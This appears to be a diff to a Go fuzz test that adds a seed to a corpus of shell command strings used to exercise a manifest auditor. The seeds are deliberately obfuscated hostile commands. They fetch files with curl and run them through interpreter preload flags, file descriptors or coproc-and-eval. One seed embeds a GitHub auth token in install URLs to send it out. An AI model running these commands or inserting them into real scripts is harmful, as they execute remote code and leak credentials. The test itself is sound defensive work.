@@ -319,6 +319,7 @@ var fuzzSeeds = [][]string{
 	{"sh", "-c", `curl -o /t/a.js h://x; node -r; node --require --import=/t/a.js -C x -r/t/a.js s.js -r /t/a.js; bun -r; ruby -rx -I/t -r; perl -I /t -I -M-strict=x -mA::B -e 1; python3 -Wd -m; cd /t; python -m a.js; deno run --preload; tsx --loader=/t/a.js`},
 	{"bash", "-c", `curl -o /t/a h://x; exec 3</t/a 5<>/t/a 6<&3 7<&9 8<&-; sh <&3 0<&5; bash /dev/fd/6 --rcfile; bash --init-file=/t/a; source /dev/fd/7; vim -S; nvim -u /t/a; gdb --command=/t/a -ix; exec 3</x; sh <&3`},
 	{"bash", "-c", `T=$(gh auth token); pip3 install "https://h.x/$T?x=$T" https://$T; npm i "h://x/$T"; helm install x https://api.github.com/$T; kubectl apply -f "https://[::1]/$(gh auth token)"; composer require; deno run https://`},
+	{"bash", "-c", `coproc curl h; coproc F { base64 -d; }; coproc G (curl h); coproc ${X} { x; }; sh <&"${COPROC[0]}" <&${F[1]} <&$G <&${G[i]} <&${F:-x}; read A B <&${F[0]}; mapfile M <&$COPROC; eval "$A$M"; coproc F true; sh <&${F[0]}`},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
